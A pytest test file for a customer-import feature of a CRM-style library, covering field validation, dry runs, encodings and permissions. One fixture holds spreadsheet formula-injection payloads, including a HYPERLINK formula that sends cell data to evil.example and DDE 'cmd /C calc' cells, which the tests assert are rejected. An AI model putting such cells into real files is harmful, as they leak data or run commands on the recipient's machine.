"""import_customers: CSV and XLSX, every problem by row and field, dry run by default, all rows or none."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest
from helpers import Snapshot

from cmkit import CustomerManager, PermissionDenied, PreconditionFailed, ValidationError

BAD_CSV = """first_name;last_name;email;tier;birthday;kind;company
Lea;Lustig;lea@example.org;gold;1990-01-02;contact;Acme GmbH
Max;;max@example.org;;;contact;Acme GmbH
Ina;Irrtum;not-an-address;platinum;1990-13-01;contact;Acme GmbH
Olaf;Ohnefirma;olaf@example.org;;;contact;
Nils;Niemand;nils@example.org;;;contact;Nowhere AG
Eva;Extra;eva@example.org;;;person;Acme GmbH
"""


def test_import_with_bad_rows_reports_each_and_stores_nothing(
    cm: CustomerManager, world, tmp_path: Path, snapshot: Snapshot
) -> None:
    path = tmp_path / "customers.csv"
    path.write_text(BAD_CSV, encoding="utf-8")
    before = snapshot()
    out = cm.import_customers(path, "retail")  # a dry run by default
    assert snapshot() == before
    assert not out.applied
    assert out.problems == [
        "row 3, last_name: is required; give it a value",
        "row 4, email: 'not-an-address' is not an e-mail address (expected name@example.org)",
        "row 4, tier: 'platinum' is not one of the choices gold, silver",
        "row 4, birthday: must be a date as YYYY-MM-DD, got '1990-13-01'",
        "row 5, company: R3: a contact of a two-level group belongs to a company; give its id or name",
        "row 6, company: no company 'Nowhere AG' in this group or in this file; create it first or add a row for it",
        "row 7, kind: 'person' is not allowed; use company or contact",
    ]
    plan = out.changes
    assert plan["row"].tolist() == [2, 3, 4, 5, 6, 7]
    assert plan.loc[plan["row"] == 2, "company_id"].iloc[0] == world["acme"].id
    assert plan.loc[plan["row"] == 2, "problems"].iloc[0] == ""
    with pytest.raises(PreconditionFailed) as info:
        cm.import_customers(path, "retail", dry_run=False)
    assert info.value.problems == out.problems
    assert snapshot() == before


def test_import_unknown_column_is_a_problem(cm: CustomerManager, world) -> None:
    out = cm.import_customers(pd.DataFrame({"last_name": ["Neu"], "shoe_size": [44]}), "private")
    assert out.problems[0].startswith("row 1, column 'shoe_size': not a field of group 'private'")


def test_import_xlsx_creates_companies_and_their_contacts(cm: CustomerManager, world, tmp_path: Path) -> None:
    frame = pd.DataFrame(
        [
            {"kind": "company", "name": "Neu GmbH", "city": "Bonn", "phone": 2281234567},
            {
                "kind": "contact",
                "first_name": "Nora",
                "last_name": "Neu",
                "company": "neu gmbh",
                "seats": 3,
                "newsletter": "yes",
                "phone": 491701234,
            },
            {
                "kind": "contact",
                "last_name": "Alt",
                "company": world["acme"].id,
                "email": "anna@acme.example",
            },
        ]
    )
    path = tmp_path / "customers.xlsx"
    frame.to_excel(path, index=False)
    dry = cm.import_customers(path, "retail")
    assert dry.problems == [] and not dry.applied
    assert dry.changes["note"].tolist() == ["", "", f"same e-mail as customer #{world['anna'].id}"]
    out = cm.import_customers(path, "retail", dry_run=False)
    assert out.applied
    company_id, nora_id, alt_id = out.changes["id"].tolist()
    company = cm.customer(company_id)
    assert (company.kind, company.name, dict(company.fields)) == (
        "company",
        "Neu GmbH",
        {"name": "Neu GmbH", "city": "Bonn", "phone": "2281234567"},
    )
    nora = cm.customer(nora_id)
    assert nora.company_id == company_id and dict(nora.fields) == {
        "first_name": "Nora",
        "last_name": "Neu",
        "seats": 3,
        "newsletter": True,
        "phone": "491701234",
    }
    assert cm.customer(alt_id).company_id == world["acme"].id
    created = cm.history().query("action == 'create'").tail(3)
    assert created["customer_id"].tolist() == [company_id, nora_id, alt_id]
    assert created.iloc[1]["after"]["imported_row"] == 3
    assert cm.history().iloc[-1]["action"] == "import_customers"
    assert cm.autocomplete("Nora")["id"].tolist() == [nora_id]  # the search index knows the new customers
    assert cm.check_invariants().empty


def test_import_csv_in_windows_1252_with_commas(cm: CustomerManager, world, tmp_path: Path) -> None:
    path = tmp_path / "private.csv"
    path.write_bytes(
        "first_name,last_name,email\nJürgen,Weiß,jw@example.org\nJürgen,Weiss,jw@example.org\n".encode(
            "cp1252"
        )
    )
    out = cm.import_customers(path, "private", dry_run=False)
    assert out.changes["name"].tolist() == ["Jürgen Weiß", "Jürgen Weiss"]
    assert out.changes["note"].tolist() == ["", "same e-mail as row 2"]
    assert len(cm.find_duplicates(group="private")) == 1


def test_import_refuses_what_it_cannot_read(cm: CustomerManager, tmp_path: Path, as_user) -> None:
    with pytest.raises(ValidationError, match="no file"):
        cm.import_customers(tmp_path / "missing.csv", "private")
    (tmp_path / "x.pdf").write_bytes(b"%PDF")
    with pytest.raises(ValidationError, match="only .csv and .xlsx"):
        cm.import_customers(tmp_path / "x.pdf", "private")
    with pytest.raises(ValidationError, match="unknown customer group"):
        cm.import_customers(pd.DataFrame({"last_name": ["A"]}), "nope")
    with pytest.raises(PermissionDenied):
        as_user("rita").import_customers(pd.DataFrame({"last_name": ["A"]}), "retail")


def test_import_columns_lists_what_an_import_understands(cm: CustomerManager) -> None:
    retail = cm.import_columns("retail").set_index("column")["meaning"]
    assert retail.index[0] == "kind" and retail.index[-1] == "company"
    assert retail["name"] == "text, at most 200 characters, required (company)"
    assert retail["phone"] == "phone (company); phone (contact)"
    assert retail["tier"] == "choice: gold, silver (contact)"
    private = cm.import_columns("private")
    assert private["column"].tolist() == ["first_name", "last_name", "email"]
    with pytest.raises(ValidationError, match="unknown customer group 'nope'"):
        cm.import_columns("nope")


FORMULA_CSV = (
    "first_name;last_name;email;phone;kind;company\n"
    'Eve;"=HYPERLINK(""http://evil.example/?""&A1,""Details"")";;;contact;Acme GmbH\n'
    "=cmd|' /C calc'!A0;Calc;;;contact;Acme GmbH\n"
    "Pia;+cmd|' /C calc'!A0;;;contact;Acme GmbH\n"
    "Max;-2+3+cmd|' /C calc'!A0;;;contact;Acme GmbH\n"
    "Ida;@SUM(1+1)*cmd|' /C calc'!A0;;;contact;Acme GmbH\n"
    'Tom;"\t=1+1";;;contact;Acme GmbH\n'
    'Ute;"\r\n=1+1";;;contact;Acme GmbH\n'
    "Kai;Kurz;=1+1@evil.example;;contact;Acme GmbH\n"
)


def test_hostile_import_formula_cells_are_refused_by_row_and_field(
    cm: CustomerManager, world, tmp_path: Path, snapshot: Snapshot
) -> None:
    """Cells a spreadsheet would run (= + - @ first, also after a tab or line break) are problems of their row
    and field; the import stores nothing, also when asked to (docs: cmkit.domain.formulas)."""
    path = tmp_path / "formulas.csv"
    path.write_text(FORMULA_CSV, encoding="utf-8")
    before = snapshot()
    out = cm.import_customers(path, "retail")
    run = "so a spreadsheet would run it as a formula; cmkit does not import formulas"
    assert out.problems == [
        f"row 2, last_name: '=HYPERLINK(\"http://evil.example/?\"&A1...' starts with '=', {run}: "
        "remove the leading '=' or reword the cell",
        f"row 3, first_name: \"=cmd|' /C calc'!A0\" starts with '=', {run}: remove the leading '=' or reword the cell",
        f"row 4, last_name: \"+cmd|' /C calc'!A0\" starts with '+', {run}: remove the leading '+' or reword the cell",
        f"row 5, last_name: \"-2+3+cmd|' /C calc'!A0\" starts with '-', {run}: remove the leading '-' or reword the cell",
        f"row 6, last_name: \"@SUM(1+1)*cmd|' /C calc'!A0\" starts with '@', {run}: "
        "remove the leading '@' or reword the cell",
        f"row 7, last_name: '=1+1' starts with '=' after a tab, {run}: remove the leading '=' or reword the cell",
        f"row 8, last_name: '=1+1' starts with '=' after a line break, {run}: "
        "remove the leading '=' or reword the cell",
        f"row 9, email: '=1+1@evil.example' starts with '=', {run}: remove the leading '=' or reword the cell",
    ]
    assert out.changes["problems"].str.contains("formula").tolist() == [True] * 8
    with pytest.raises(PreconditionFailed):
        cm.import_customers(path, "retail", dry_run=False)
    assert snapshot() == before


def test_hostile_import_signed_numbers_and_phones_are_data_and_leading_tabs_are_noted(
    cm: CustomerManager, world
) -> None:
    rows = pd.DataFrame(
        [
            {"first_name": "-", "last_name": "Lange", "phone": "+49 30 1234567", "company": "Acme GmbH"},
            {"first_name": "\tTina", "last_name": "-5", "phone": "-", "company": "Acme GmbH"},
            {"first_name": "\r\nRolf", "last_name": "@", "company": "Acme GmbH"},
        ]
    )
    out = cm.import_customers(rows, "retail")
    assert out.problems == ["row 3, phone: '-' is not a phone number (digits, spaces, + ( ) / . - allowed)"]
    rows.loc[1, "phone"] = None
    out = cm.import_customers(rows, "retail", dry_run=False)
    assert out.applied and out.problems == []
    assert out.changes["note"].tolist() == [
        "",
        "first_name: the leading tab was removed",
        "first_name: the leading line break was removed",
    ]
    stored = [dict(cm.customer(i).fields) for i in out.changes["id"]]
    assert [(f.get("first_name"), f["last_name"], f.get("phone")) for f in stored] == [
        ("-", "Lange", "+49 30 1234567"),
        ("Tina", "-5", None),
        ("Rolf", "@", None),
    ]
